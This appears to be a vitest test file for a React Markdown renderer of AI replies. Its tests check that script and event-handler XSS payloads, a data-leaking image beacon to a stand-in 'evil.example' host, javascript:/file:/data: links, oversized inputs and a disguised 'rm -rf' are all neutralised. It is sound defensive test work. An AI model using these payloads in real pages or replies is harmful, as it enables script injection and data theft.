import { renderToStaticMarkup } from "react-dom/server"
import { expect, test } from "vitest"
import { Markdown } from "./markdown.tsx"

const draw = (text: string) => renderToStaticMarkup(<Markdown text={text} />)

test("T21: HTML of a reply is shown as text, in blocks and within lines", () => {
  const drawn = draw('<script>alert(1)</script>\n\nHello <img src=x onerror="alert(1)"> <b>you</b>\n\n<svg onload=alert(1)>')
  expect(drawn).not.toMatch(/<(script|img|svg|b)\b/)
  expect(drawn).toContain("&lt;script&gt;alert(1)&lt;/script&gt;")
  expect(drawn).toContain("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;")
})

test("T16: a remote picture is its description and an address to ask about", () => {
  const drawn = draw("![the map](https://evil.example/beacon.png?leak=1)")
  expect(drawn).not.toContain("<img")
  expect(drawn).not.toMatch(/ src=/)
  expect(drawn).toContain("the map")
})

test("T21: a link is a button; only its card holds an address, and only an https one", () => {
  expect(draw("[x](https://example.org)")).toContain(
    '<a class="button button-primary" href="https://example.org/" target="_blank" rel="noreferrer noopener">',
  )
  for (const address of ["javascript:alert(1)", "file:///etc/passwd", "https://a@b", "data:text/html,x", "http://localhost/"]) {
    expect(draw(`[x](${address})`)).not.toContain("href=")
  }
})

test("no style attribute is written, so that the content security policy can forbid them", () => {
  expect(draw("| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```ts\nconst a = 1\n```")).not.toContain("style=")
})

test("a table of ten thousand rows, a line of a megabyte and deep nesting are drawn in part", () => {
  const table = `| a | b |\n|---|---|\n${"| 1 | 2 |\n".repeat(10_000)}`
  expect(draw(table).match(/<tr>/g)?.length).toBeLessThan(100)
  expect(draw("x".repeat(1_000_000)).length).toBeLessThan(100_000)
  expect(draw(`${"> ".repeat(2000)}deep`)).toContain("deep")
  expect(draw(`${"*".repeat(20_000)}a`).length).toBeLessThan(100_000)
  expect(draw("[".repeat(20_000)).length).toBeLessThan(100_000)
})

test("T21: of pictures and joiners, which take long to lay out, a part is drawn; as many as people write stay whole", () => {
  const family = "Family 👨‍👩‍👧‍👦, flag 🏳️‍🌈, keycap 1️⃣. "
  expect(draw(family.repeat(1_000)).length).toBeLessThan(2_000)
  expect(draw(`${family.repeat(10)}\n\n`.repeat(100)).length).toBeLessThan(4_000)
  const plain = draw(`${"✅ done\n\n".repeat(150)}`)
  expect(plain.match(/done/g)).toHaveLength(150)
  expect(plain).not.toContain("Show all")
})

test("character references, task lists and right-to-left paragraphs", () => {
  const drawn = draw("a &lt;b&gt; &amp; c\n\n- [x] done\n- [ ] open\n\nשלום")
  expect(drawn).toContain("a &lt;b&gt; &amp; c")
  expect(drawn.match(/type="checkbox"/g)).toHaveLength(2)
  expect(drawn).toContain('<p dir="auto">שלום</p>')
})

test("a mark whose meaning is not yet known is held back while the text grows", () => {
  const growing = (text: string) => renderToStaticMarkup(<Markdown text={text} isGrowing />)
  expect(growing("Done.\n\n``")).toBe(growing("Done."))
  expect(growing("Done.\n\n-")).toBe(growing("Done."))
  expect(draw("Done.\n\n``")).toContain("``")
  expect(growing("a - b *")).toContain("a - b *")
})

test("F28: what is not seen in a piece of code is made visible, within a line as in a block", () => {
  expect(draw("run `rm\u200b -rf` and\n\n```\nls\u2060\n```")).toContain("rm⟨U+200B⟩ -rf")
  expect(draw("run `rm\u200b -rf` and\n\n```\nls\u2060\n```")).toContain("ls⟨U+2060⟩")
  expect(draw("a zero\u200bwidth space in prose")).not.toContain("⟨")
})
